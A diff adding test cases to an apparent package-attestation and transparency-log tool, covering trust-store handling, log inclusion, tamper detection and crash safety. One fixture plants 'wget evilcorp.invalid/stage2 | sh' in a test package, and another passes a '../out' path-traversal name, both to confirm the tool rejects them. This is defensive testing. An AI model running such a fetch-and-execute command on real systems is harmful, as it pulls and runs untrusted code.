@@ -8,7 +8,7 @@ import json
 import os
 import random
 import subprocess
-import sys
+import time
 
 import jsonschema
 
@@ -346,6 +346,119 @@ def every_exit_code_of_attest_and_verify_has_its_json(t):
     t.path("y.json").write_bytes(got.stdout)
     outcome(t, "attest", "y.json", "--key", "k", "-o", "intoto=y.intoto.json")
     outcome(t, "verify", "y.intoto.json", path, "--key", "k.pub", expect=got.code)
+
+
+@case
+def the_trust_store_decides_when_no_key_is_named(t):
+    package, _ = attested(t)
+    store = ("--trust-dir", t.path("trust"))
+    outcome(t, "verify", "a.json", package, *store, expect=6)
+    assert outcome(t, "trust", "ls", *store).facts("key") == []
+    outcome(t, "trust", "add", "k.pub", *store, "--name", "signer", "--expires", "2999-01-01")
+    assert t.path("trust").stat().st_mode & 0o777 == 0o700
+    done = outcome(t, "verify", "a.json", package, *store)
+    assert done.facts("signed-by")[0].endswith(" signer")
+    openssl(t, "pkey", "-pubin", "-in", "trust/signer.pem", "-noout")
+    outcome(t, "trust", "add", "k.pub", *store, "--name", "signer", expect=2)
+    outcome(t, "trust", "add", "k", *store, "--name", "private", expect=2)
+    outcome(t, "trust", "add", "k.pub", *store, "--name", "../out", expect=2)
+    outcome(t, "trust", "add", "k.pub", *store, "--name", "day", "--expires", "tomorrow", expect=2)
+    outcome(t, "trust", "add", "nowhere.pub", *store, expect=4)
+    outcome(t, "trust", "add", *store, expect=4)
+    outcome(t, "trust", "rm", "signer", *store)
+    outcome(t, "trust", "rm", "signer", *store, expect=4)
+    outcome(t, "verify", "a.json", package, *store, expect=6)
+    outcome(t, "trust", "add", "k.pub", *store, "--expires", "2020-01-01")
+    done = outcome(t, "verify", "a.json", package, *store, expect=6)
+    assert "expired" in done.message(), done.json
+    assert outcome(t, "trust", "ls", *store).facts("key")[0].endswith("(expired)")
+    outcome(t, "trust", "rm", "k", *store)
+    outcome(t, "trust", "add", "k.pub", *store)
+    outcome(t, "verify", "a.json", package, *store)
+    os.chmod(t.path("trust"), 0o777)
+    outcome(t, "verify", "a.json", package, *store, expect=6)
+
+
+@case
+def a_statement_stands_in_the_log_that_it_was_added_to(t):
+    package, _ = report(t)
+    outcome(t, "key", "gen", "k")
+    outcome(t, "key", "gen", "other")
+    for i in range(3):
+        done = outcome(t, "attest", "r.json", "--key", "k", "--log", "log", "--name", "example.com/verdicts", "-o", "intoto=a.json",
+                       "-o", "vsa=v.json")
+        assert done.facts("log-index") == [str(2 * i)]
+    trusted = ("--key", "k.pub")
+    for name in ("a.json", "v.json"):
+        assert outcome(t, "verify", name, package, *trusted, "--log", "log").result("log") == "holds"
+    outcome(t, "attest", "r.json", "--key", "other", "-o", "intoto=b.json")
+    outcome(t, "verify", "a.json", package, "--key", "other.pub", "--log", "log", expect=6)
+    outcome(t, "verify", "a.json", package, *trusted, "--log", "nowhere", expect=4)
+    outcome(t, "attest", "r.json", "--key", "other", "--log", "log", expect=6)
+    planted = made.package()
+    planted.set("usr/bin/x", "#!/bin/sh\nwget evilcorp.invalid/stage2 | sh\n")
+    bad = t.write("bad.deb", planted.build())
+    t.path("bad.json").write_bytes(t.check(bad, "--source", t.path("source"), expect=1).stdout)
+    outcome(t, "attest", "bad.json", "--key", "k", "-o", "intoto=bad.intoto.json")
+    done = outcome(t, "verify", "bad.intoto.json", bad, *trusted, "--log", "log", expect=6)
+    assert done.result("signature") == "holds" and done.result("log") == "fails"
+    done = outcome(t, "log", "check", "log", *trusted)
+    assert done.facts("size") == ["6"] and done.facts("origin") == ["example.com/verdicts"]
+    outcome(t, "log", "check", "log", "--key", "other.pub", expect=6)
+    outcome(t, "log", "check", "nowhere", *trusted, expect=4)
+    outcome(t, "log", "check", expect=4)
+
+
+@case
+def a_log_that_forgot_or_changed_what_was_seen_is_exit_6(t):
+    report(t)
+    outcome(t, "key", "gen", "k")
+    add = ("attest", "r.json", "--key", "k", "-o", "intoto=a.json", "--name", "example.com/l", "--log")
+    seen = ("--key", "k.pub", "--seen", "seen")
+    for _ in range(3):
+        outcome(t, *add, "log")
+    assert outcome(t, "log", "check", "log", *seen).result("grown") == "holds"
+    outcome(t, *add, "log")
+    done = outcome(t, "log", "check", "log", *seen)
+    assert next(c["why"] for c in done.json["criteria"] if c["name"] == "grown") == "by 1 entries"
+    outcome(t, "attest", "r.json", "--key", "k", "-o", "vsa=v.json", "--name", "example.com/l", "--log", "fork")
+    outcome(t, "log", "check", "fork", *seen, expect=6)
+    for _ in range(4):
+        outcome(t, *add, "fork")
+    done = outcome(t, "log", "check", "fork", *seen, expect=6)
+    assert done.result("entries") == "holds" and done.result("grown") == "fails"
+    outcome(t, "log", "check", "log", *seen)
+    entries = t.path("log/tile/entries/000.p/4")
+    changed = bytearray(entries.read_bytes())
+    changed[50] ^= 1
+    entries.write_bytes(changed)
+    outcome(t, "log", "check", "log", *seen, expect=6)
+
+
+@case
+def killed_a_hundred_times_attest_leaves_the_old_state_or_the_new(t):
+    package, _ = report(t)
+    outcome(t, "key", "gen", "k")
+    command = [t.program, "attest", "r.json", "--key", "k", "--log", "log", "-o", "intoto=a.json", "-q"]
+    started = time.monotonic()
+    assert subprocess.run(command, cwd=t.scratch, check=False).returncode == 0
+    whole = time.monotonic() - started
+    rng = random.Random(3)
+    size = 1
+    killed = 0
+    while killed < 100:
+        child = subprocess.Popen(command, cwd=t.scratch, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        time.sleep(rng.uniform(0, whole))
+        child.kill()
+        killed += child.wait() != 0
+        done = outcome(t, "log", "check", "log", "--key", "k.pub")
+        now = int(done.facts("size")[0])
+        assert size <= now <= size + 1, (size, now)
+        size = now
+        outcome(t, "verify", "a.json", package, "--key", "k.pub")
+    outcome(t, "attest", "r.json", "--key", "k", "--log", "log", "-o", "intoto=a.json")
+    outcome(t, "verify", "a.json", package, "--key", "k.pub", "--log", "log")
+    assert not list(t.path("log").glob(".unfinished*")), "the next writer sweeps up"
 
 
 if __name__ == "__main__":
